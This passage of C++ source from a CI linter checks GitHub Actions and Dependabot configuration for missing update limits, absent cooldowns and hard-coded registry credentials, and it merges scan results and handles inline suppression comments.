      std::string norm = e + "\n" + dir;
      if (!Get(u, "groups"))
        EmitAt("ci-dependabot-no-groups", anchor,
               "update entry " + label + " has no groups: every dependency gets its own PR", norm);
      KeyValue limit = Get(u, "open-pull-requests-limit");
      if (!limit) {
        EmitAt("ci-dependabot-pr-limit", anchor,
               "update entry " + label + " has no open-pull-requests-limit (default 5)", norm);
      } else {
        int v = std::atoi(Str(limit.value).c_str());
        if (v > 10)
          EmitAt("ci-dependabot-pr-limit", limit.value,
                 "open-pull-requests-limit " + std::to_string(v) + " for " + label +
                     " lets update PRs pile up (10 or fewer)",
                 norm, Severity::kMedium);
      }
      if (!Get(u, "cooldown"))
        EmitAt(
            "ci-dependabot-no-cooldown", anchor,
            "update entry " + label + " has no cooldown: releases are proposed the day they ship",
            norm);
    }
    // Registries with literal credentials.
    Node regs = Val(root, "registries");
    if (IsMap(regs))
      for (const auto& it : regs)
        for (std::string_view k : {"password", "token", "key"}) {
          KeyValue kv = Get(it.second, k);
          if (kv && LiteralValue(kv.value)) {
            hardcoded_lines_.insert(NodePos(kv.value).line);
            EmitAt("ci-hardcoded-credential", kv.value,
                   "registry '" + Str(it.first) + "' has a literal " + std::string(k) +
                       " instead of ${{ secrets.NAME }}",
                   "registry\n" + Str(it.first) + "\n" + Sha256Hex(Str(kv.value)), {},
                   Confidence::kHigh);
          }
        }
    if (!actions && idx_.has_workflows_dir && !idx_.dependabot_covers_actions)
      EmitAt("ci-dependabot-actions-missing", updates.key,
             "no 'github-actions' update entry: action pins in workflows are never updated",
             "actions-missing");
  }

 public:
  void RecordScanner(const StepFacts& sf) {
    if (!sf.scanner) return;
    scanners_.push_back(sf);
  }
  const std::vector<StepFacts>& scanners() const { return scanners_; }
  const std::set<int>& hardcoded_lines() const { return hardcoded_lines_; }
  const std::set<std::string>& events() const { return events_; }

 private:
  const SourceFile& f_;
  const RepoIndex& idx_;
  std::vector<Finding>* out_;
  CiSprawl* sp_;
  std::set<std::string> events_;
  std::map<std::string, Node> event_nodes_;
  std::set<std::string> inputs_;
  std::set<std::string> action_inputs_;
  std::set<std::string> job_ids_;
  std::map<std::string, std::string> job_text_;  // lower-cased source of each job
  bool pr_ = false, every_pr_ = false, privileged_ = false;
  KeyValue top_perms_;
  Node top_concurrency_;
  std::vector<JobInfo> jobs_;
  std::set<int> placeholder_steps_;
  std::set<int> hardcoded_lines_;
  std::vector<StepFacts> scanners_;
};

}  // namespace
}  // namespace ci

// ---- public API ----------------------------------------------------------------------------

const std::vector<RuleInfo>& CiRuleInfos() {
  static const std::vector<RuleInfo> kInfos = [] {
    std::vector<RuleInfo> v;
    for (const ci::RuleDef& d : ci::kRules) {
      RuleInfo r;
      r.id = d.id;
      r.title = d.title;
      r.description = d.rationale;
      r.remediation = d.fix;
      r.help_uri = d.reference;
      r.severity = d.severity;
      r.area = d.area;
      r.tags = {"ci", "github-actions"};
      if (d.area == Area::kSecurity) r.tags.push_back("security");
      v.push_back(std::move(r));
    }
    std::sort(v.begin(), v.end(), [](const RuleInfo& a, const RuleInfo& b) { return a.id < b.id; });
    return v;
  }();
  return kInfos;
}

const RuleInfo* FindCiRule(std::string_view id) {
  const auto& v = CiRuleInfos();
  auto it = std::lower_bound(v.begin(), v.end(), id,
                             [](const RuleInfo& r, std::string_view k) { return r.id < k; });
  return it != v.end() && it->id == id ? &*it : nullptr;
}

Confidence CiRuleConfidence(std::string_view id) {
  for (const ci::RuleDef& d : ci::kRules)
    if (id == d.id) return d.confidence;
  return Confidence::kMedium;
}

namespace {

void MergeSprawl(CiSprawl* into, const CiSprawl& s) {
  into->workflows += s.workflows;
  into->reusable_workflows += s.reusable_workflows;
  into->actions += s.actions;
  into->composite_actions += s.composite_actions;
  into->jobs += s.jobs;
  into->steps += s.steps;
  into->lines += s.lines;
  into->reusable_calls += s.reusable_calls;
  for (const auto& [k, v] : s.workflows_per_event) into->workflows_per_event[k] += v;
  into->pr_workflows += s.pr_workflows;
  into->every_pr_workflows += s.every_pr_workflows;
  into->pr_jobs += s.pr_jobs;
  into->pr_job_runs += s.pr_job_runs;
  into->pr_job_runs_with_timeout += s.pr_job_runs_with_timeout;
  into->pr_runner_minutes_max += s.pr_runner_minutes_max;
  into->jobs_without_timeout += s.jobs_without_timeout;
  into->pr_workflows_without_concurrency += s.pr_workflows_without_concurrency;
  into->workflows_without_permissions += s.workflows_without_permissions;
  into->action_refs += s.action_refs;
  into->pinned_action_refs += s.pinned_action_refs;
  into->third_party_refs += s.third_party_refs;
  into->third_party_pinned += s.third_party_pinned;
  into->placeholder_steps += s.placeholder_steps;
}

// Secret-engine hits in a CI file become ci-hardcoded-credential findings
// at the engine's position, named after the key on that line.
void MapSecretHits(const ci::SourceFile& f, const std::vector<Finding>& hits,
                   const std::set<int>& already, std::vector<Finding>* out) {
  const RuleInfo* info = FindCiRule("ci-hardcoded-credential");
  for (const Finding& h : hits) {
    if (h.location.line <= 0 || already.count(h.location.line)) continue;
    std::string_view line = f.Line(h.location.line);
    std::string key;
    size_t colon = line.find(':');
    if (colon != std::string_view::npos) key = ci::Trim(line.substr(0, colon));
    if (!key.empty() && key[0] == '-') key = ci::Trim(key.substr(1));
    Finding fd;
    fd.rule_id = info->id;
    fd.title = info->title;
    fd.area = info->area;
    fd.severity = std::max(Severity::kHigh, h.severity);
    fd.confidence = h.confidence;
    fd.location = h.location;
    fd.location.path = f.path;
    std::string secret_msg = h.message;
    fd.message = "hard-coded credential" + (key.empty() ? "" : " in '" + key + "'") + " (" +
                 h.rule_id + "): " + secret_msg;
    fd.evidence = h.evidence;
    fd.remediation = info->remediation;
    fd.help_uri = info->help_uri;
    fd.properties["secret_rule"] = h.rule_id;
    std::string key2 = "engine\n" + h.fingerprint;
    fd.fingerprint = ci::Fingerprint(info->id, f.path, key2);
    out->push_back(std::move(fd));
  }
}

CiResult Analyze(std::vector<ci::PendingFile> pending, std::vector<Diagnostic> diagnostics,
                 const CiOptions& options, const std::string& root_for_config) {
  CiResult result;
  Report& report = result.report;
  report.command = "ci";
  report.tool_version = GATEHOUSE_VERSION;
  const double t0 = MonotonicSeconds();

  std::unique_ptr<SecretScanner> owned;
  const SecretScanner* scanner = options.secret_scanner;
  if (!scanner && options.check_credentials) {
    SecretsOptions so;
    so.redact = options.redact;
    auto created = SecretScanner::Create(root_for_config, so);
    if (created.ok()) {
      owned = std::move(created).value();
      scanner = owned.get();
    } else {
      diagnostics.push_back(Diagnostic{DiagnosticKind::kConfig, created.error().path,
                                       created.error().line, created.error().column,
                                       "credential checks skipped: " + created.error().message});
    }
  }

  uint64_t bytes = 0;
  for (const auto& p : pending) bytes += p.content.size();
  std::vector<ci::SourceFile> files =
      ci::ParseFiles(std::move(pending), options.threads, &diagnostics);
  ci::RepoIndex idx = ci::BuildIndex(files);

  std::vector<std::vector<Finding>> per_file(files.size());
  std::vector<CiSprawl> per_sprawl(files.size());
  std::vector<std::vector<ci::StepFacts>> per_scanners(files.size());
  ParallelFor(files.size(), options.threads, [&](size_t i) {
    const ci::SourceFile& f = files[i];
    ci::Analyzer a(f, idx, &per_file[i], &per_sprawl[i]);
    a.Run();
    per_scanners[i] = a.scanners();
    if (scanner && !f.syntax_error) {
      std::vector<Finding> hits;
      scanner->ScanContent(f.path, f.text, ContentContext{}, &hits);
      std::set<int> already = a.hardcoded_lines();
      MapSecretHits(f, hits, already, &per_file[i]);
    }
    // Free the document here, on the worker, rather than serially later.
    files[i].root = ci::Node();
    files[i].doc.reset();
  });

  std::map<std::string, CiScannerUse> scanners;
  size_t total = 0;
  for (const auto& v : per_file) total += v.size();
  report.findings.reserve(total);
  for (size_t i = 0; i < files.size(); ++i) {
    MergeSprawl(&result.sprawl, per_sprawl[i]);
    for (auto& fd : per_file[i]) report.findings.push_back(std::move(fd));
    for (const auto& sf : per_scanners[i]) {
      CiScannerUse& u = scanners[sf.scanner_name];
      u.name = sf.scanner_name;
      u.steps++;
      if (sf.gating) u.gating++;
      if (sf.scanner_kind != ci::ScannerKind::kSupplyChain) {
        result.sprawl.scanner_steps++;
        if (sf.gating) result.sprawl.gating_scanner_steps++;
      }
    }
  }
  for (auto& [_, u] : scanners) result.sprawl.scanners.push_back(u);

  if (!options.disabled_rules.empty()) {
    std::set<std::string> off(options.disabled_rules.begin(), options.disabled_rules.end());
    size_t before = report.findings.size();
    std::erase_if(report.findings, [&](const Finding& f) { return off.count(f.rule_id) > 0; });
    report.stats.findings_suppressed += before - report.findings.size();
  }
  // Inline suppression: `# gatehouse:allow` (or `gatehouse:allow rule-id`) on the line.
  {
    std::map<std::string, const ci::SourceFile*> by_path;
    for (const auto& f : files) by_path[f.path] = &f;
    size_t before = report.findings.size();
    std::erase_if(report.findings, [&](const Finding& fd) {
      auto it = by_path.find(fd.location.path);
      if (it == by_path.end() || fd.location.line <= 0) return false;
      std::string_view line = it->second->Line(fd.location.line);
      size_t p = line.find("gatehouse:allow");
      if (p == std::string_view::npos) return false;
      std::string_view rest = line.substr(p + 15);
      while (!rest.empty() && (rest[0] == ' ' || rest[0] == ':')) rest.remove_prefix(1);
      // "gatehouse:allow ci-a,ci-b" limits it to those rules; anything else allows all.
      if (!ci::StartsWith(rest, "ci-")) return true;
      std::string_view ids = rest.substr(0, rest.find_first_of(" #"));
      while (!ids.empty()) {
        size_t c = ids.find(',');
        if (ids.substr(0, c) == fd.rule_id) return true;
        if (c == std::string_view::npos) break;
        ids.remove_prefix(c + 1);
      }
      return false;
    });
    report.stats.findings_suppressed += before - report.findings.size();
  }
  SortFindings(report.findings);
  std::set<std::string> off(options.disabled_rules.begin(), options.disabled_rules.end());
  for (const RuleInfo& r : CiRuleInfos())
    if (!off.count(r.id)) report.rules.push_back(r);
  report.diagnostics = std::move(diagnostics);
  std::sort(report.diagnostics.begin(), report.diagnostics.end(),
            [](const Diagnostic& a, const Diagnostic& b) {
              return std::tie(a.path, a.line, a.message) < std::tie(b.path, b.line, b.message);
            });
  report.stats.files_scanned = files.size();
  report.stats.bytes_scanned = bytes;
  report.stats.seconds = MonotonicSeconds() - t0;
  return result;
}

}  // namespace

CiResult AnalyzeCiFiles(const std::vector<CiFile>& files, const CiOptions& options) {
  std::vector<ci::PendingFile> pending;
  for (const CiFile& f : files) {
    ci::FileKind k = ci::ClassifyPath(f.path, false);
    pending.push_back(ci::PendingFile{f.path, f.content, k});
  }
  CiResult r = Analyze(std::move(pending), {}, options, ".");
  r.report.root = ".";
  return r;
}

Result<CiResult> AnalyzeCi(const std::string& root, const CiOptions& options) {
  auto tree = ci::ReadCiTree(root, options.include, options.exclude, options.gitignore,
                             options.max_file_size, options.threads);
  if (!tree.ok()) return tree.error();
  if (tree->files.empty())
    tree->diagnostics.push_back(
        Diagnostic{DiagnosticKind::kNote, "", 0, 0,
                   "no workflows, actions or dependabot.yml found under " + root});
  CiResult r = Analyze(std::move(tree->files), std::move(tree->diagnostics), options, root);
  r.report.root = root;
  r.report.stats.files_unreadable = tree->unreadable;
  r.report.stats.files_ignored = tree->ignored;
  r.report.stats.files_skipped_size = tree->skipped_size;
  return r;
}

}  // namespace gatehouse
